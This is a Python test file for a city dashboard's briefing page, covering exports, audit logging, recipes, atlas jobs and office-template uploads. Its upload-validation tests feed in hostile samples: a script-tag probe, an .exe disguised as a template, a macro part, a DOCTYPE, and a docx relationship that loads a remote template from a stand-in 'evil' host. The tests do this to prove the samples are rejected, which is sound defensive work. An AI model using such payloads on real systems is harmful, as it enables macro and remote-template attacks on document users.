"""Promise: the briefing page shows the sheet, gives its files to who may export, and logs each."""

from __future__ import annotations

import hashlib
import io
import threading
import zipfile
from typing import Any

import docx
import pytest

from dashboard.atlas_jobs import AtlasJobs
from dashboard.server import make_app
from geodata.access.scope import Scope
from geodata.city import City
from geodata.errors import Fault, GetuError, NotFound
from layers.office.bureau import MADE, ROWS_MADE
from layers.office.sealing import read_carried
from tests.city import NOW, make_tiny_city

BASE = "/briefing"
PNG = b"\x89PNG"


@pytest.fixture(scope="module")
def city(tmp_path_factory: pytest.TempPathFactory) -> City:
    """Return a tiny city of its own: this page writes."""
    return make_tiny_city(tmp_path_factory.mktemp("briefing") / "city")


@pytest.fixture(scope="module")
def client(city: City) -> Any:
    return make_app(city, now=lambda: NOW).server.test_client()


def test_the_page_shows_the_sentences_the_sheet_and_its_files(client):
    page = client.get(f"{BASE}?lang=zh&period=90d").get_data(as_text=True)
    assert "共受理事件" in page
    assert "sheet.png?period=90d" in page
    for paper in ("page.docx", "page.pdf", "slides.pptx", "map.pdf", "incidents.xlsx"):
        assert f"/briefing/file/{paper}?" in page
    assert client.get(f"{BASE}/sheet.png?period=90d").data.startswith(PNG)


def test_a_file_of_the_page_says_what_the_page_says(client):
    answer = client.get(f"{BASE}/file/page.docx?lang=zh&period=90d")
    assert answer.status_code == 200
    assert "attachment" in answer.headers["Content-Disposition"]
    assert "no-store" in answer.headers["Cache-Control"]
    figures = read_carried(answer.data)["figures"]
    total = f"{figures['total'][1]:,}"
    text = "".join(one.text for one in docx.Document(io.BytesIO(answer.data)).paragraphs)
    assert f"共受理事件 {total} 件" in text
    page = client.get(f"{BASE}?lang=zh&period=90d").get_data(as_text=True)
    assert f"共受理事件 {total} 件" in page


def test_what_cannot_be_shown_is_a_sentence(client):
    for query, word in (
        ("period=soon", "看不懂"),
        ("area=404", "404"),
        ("period=2019", "没有事件"),
    ):
        answer = client.get(f"{BASE}?lang=zh&{query}")
        assert answer.status_code == 200
        assert word in answer.get_data(as_text=True)
        assert client.get(f"{BASE}/file/page.pdf?lang=zh&{query}").status_code in (404, 422)
    assert client.get(f"{BASE}/file/residents.xlsx").status_code == 404
    script = client.get(f"{BASE}?lang=zh&area=<script>").get_data(as_text=True)
    assert "<script>" not in script


def test_a_recipe_is_saved_issued_once_a_revision_and_dropped(client):
    kept = {"name": "月报", "period": "2026-05"}
    assert client.post(f"{BASE}/recipe?lang=zh", data=kept).status_code == 303
    for _ in range(2):
        assert client.post(f"{BASE}/issue?lang=zh", data={"name": "月报"}).status_code == 303
    page = client.get(f"{BASE}?lang=zh&period=2026-05").get_data(as_text=True)
    assert page.count("/briefing/issue/1/page.docx") == 1
    assert "/briefing/issue/2/" not in page
    one, other = (client.get(f"{BASE}/issue/1/page.docx").data for _ in range(2))
    assert one == other
    assert read_carried(one)["issue"] == 1
    assert client.get(f"{BASE}/issue/9/page.docx").status_code == 404
    assert client.post(f"{BASE}/recipe/drop?lang=zh", data={"name": "月报"}).status_code == 303
    assert client.post(f"{BASE}/issue?lang=zh", data={"name": "月报"}).status_code == 404
    assert client.post(f"{BASE}/recipe?lang=zh", data={"name": ""}).status_code == 422


def test_every_export_is_in_the_log_and_prints_its_head(client, city):
    answer = client.get(f"{BASE}/file/slides.pptx?lang=zh&period=90d")
    entry, digest = read_carried(answer.data)["head"].split(":")
    with city.database.read() as connection:
        act, whole = connection.execute(
            "SELECT act, hash FROM audit WHERE entry = ?", (int(entry),)
        ).fetchone()
    assert act == "export.slides"
    assert whole.hex().startswith(digest)


def test_every_paper_and_table_can_be_fetched(client):
    begins = {"pdf": b"%PDF", "png": PNG, "svg": b"<svg", "html": b"<!DOCTYPE html>",
              "gpkg": b"SQLite", "parquet": b"PAR1"}  # fmt: skip
    for name in (*MADE, *(one for one in ROWS_MADE if one.startswith("grids"))):
        answer = client.get(f"{BASE}/file/{name}?lang=zh&period=90d&page=A3-portrait")
        assert answer.status_code == 200, name
        assert answer.data.startswith(begins.get(name.rpartition(".")[2], b"PK")), name
        assert "attachment" in answer.headers["Content-Disposition"]
    with zipfile.ZipFile(io.BytesIO(client.get(f"{BASE}/file/pack.zip?period=90d").data)) as pack:
        assert len(pack.namelist()) == 10
        assert pack.testzip() is None
    assert client.get(f"{BASE}/file/map.pdf?period=90d&page=B5").status_code == 422
    page = client.get(f"{BASE}?lang=zh&period=90d&page=B5").get_data(as_text=True)
    assert "没有这种页面" in page


def test_an_offices_template_is_kept_used_and_dropped(client):
    own = docx.Document()
    for text in ("某某区人民政府办公室", "{{getu}}", "抄送：各街道"):
        own.add_paragraph(text)
    answer = bring(client, "通报<b>.docx", saved(own))
    assert answer.status_code == 303
    assert "period=90d" in answer.headers["Location"]
    page = client.get(f"{BASE}?lang=zh&period=90d").get_data(as_text=True)
    assert "通报&lt;b&gt;.docx" in page
    made = client.get(f"{BASE}/file/page.docx?lang=zh&period=90d").data
    text = [one.text for one in docx.Document(io.BytesIO(made)).paragraphs]
    assert text[0] == "某某区人民政府办公室"
    assert text[-1] == "抄送：各街道"
    drop = {"kind": "docx", "period": "90d"}
    assert client.post(f"{BASE}/template/drop?lang=zh", data=drop).status_code == 303
    assert client.post(f"{BASE}/template/drop?lang=zh", data=drop).status_code == 404
    made = client.get(f"{BASE}/file/page.docx?lang=zh&period=90d").data
    assert "某某区" not in docx.Document(io.BytesIO(made)).paragraphs[0].text


def test_a_template_that_will_not_do_is_refused_in_a_sentence(client):
    plain = docx.Document()
    plain.add_paragraph("没有占位符")
    for name, body, said in (
        ("a.docx", saved(plain), "{{getu}}"),
        ("a.docx", b"PK nothing", "DOCX"),
        ("a.pptx", saved(plain), "PPTX"),
        ("a.exe", b"MZ", "DOCX / PPTX"),
        ("a.docx", with_part(saved(plain), "word/vbaProject.bin", b"x"), "宏"),
        ("a.docx", with_part(saved(plain), "word/more.xml", b"<!DOCTYPE a><a/>"), "宏"),
        ("a.docx", with_part(saved(plain), "word/more.xml", b"<a"), "DOCX"),
        ("a.docx", with_part(saved(plain), "word/_rels/x.xml.rels", AWAY), "别处"),
    ):
        answer = bring(client, name, body)
        assert answer.status_code == 422, (name, said)
        assert said in answer.get_data(as_text=True), said
    assert "templates/drop" not in client.get(f"{BASE}?period=90d").get_data(as_text=True)
    assert client.post(f"{BASE}/template?lang=zh", data={}).status_code == 422


AWAY = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r" Type="http://x/relationships/attachedTemplate"'
    b' Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'
)


def bring(client: Any, name: str, body: bytes) -> Any:
    return client.post(
        f"{BASE}/template?lang=zh", data={"file": (io.BytesIO(body), name), "period": "90d"}
    )


def saved(document: Any) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_part(body: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO(body)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, content)
    return out.getvalue()


def test_an_atlas_is_bound_behind_the_page_and_noted_when_it_leaves(client, city):
    assert client.get(f"{BASE}/atlas.pdf?lang=zh").status_code == 404
    wish = {"period": "90d", "level": "community"}
    assert client.post(f"{BASE}/atlas?lang=zh", data={**wish, "level": "planet"}).status_code == 422
    assert client.post(f"{BASE}/atlas?lang=zh", data=wish).status_code == 303
    assert wait_for_atlas(client) == "bound"
    body = client.get(f"{BASE}/atlas.pdf?lang=zh").data
    assert body.startswith(b"%PDF")
    with city.database.read() as connection:
        noted = connection.execute("SELECT target FROM audit WHERE act = 'export.atlas'").fetchall()
    assert noted == [(hashlib.sha256(body).hexdigest(),)]


def wait_for_atlas(client: Any) -> str:
    """Return what became of the atlas, asking as the page does."""
    for _ in range(600):
        page = client.get(f"{BASE}/atlas?lang=zh").get_data(as_text=True)
        state = page.split('data-state="')[1].partition('"')[0]
        if state != "busy":
            return state
        threading.Event().wait(0.1)
    raise AssertionError("the atlas never ended")


def test_an_atlas_stops_when_it_is_told_to():
    jobs, scope = AtlasJobs(), Scope.whole_city("tester", ("read", "export"))
    begun = threading.Event()

    def bind(progress: Any, stopped: Any) -> bytes:
        progress("progress.atlas", 0.5)
        begun.set()
        while not stopped():
            threading.Event().wait(0.01)
        raise GetuError(Fault(key="export_stopped"))

    jobs.start(scope, "a.pdf", bind)
    assert begun.wait(30)
    job = jobs.find(scope)
    assert job is not None
    assert (job.busy, job.share) == (True, 0.5)
    assert jobs.find(Scope.whole_city("tester", ("read",))) is None  # who sees otherwise by now
    jobs.stop(scope)
    for _ in range(600):
        job = jobs.find(scope)
        if job is not None and not job.busy:
            break
        threading.Event().wait(0.05)
    assert job is not None
    assert job.error is not None
    assert job.error.faults[0].key == "export_stopped"
    with pytest.raises(NotFound):
        jobs.take(scope)
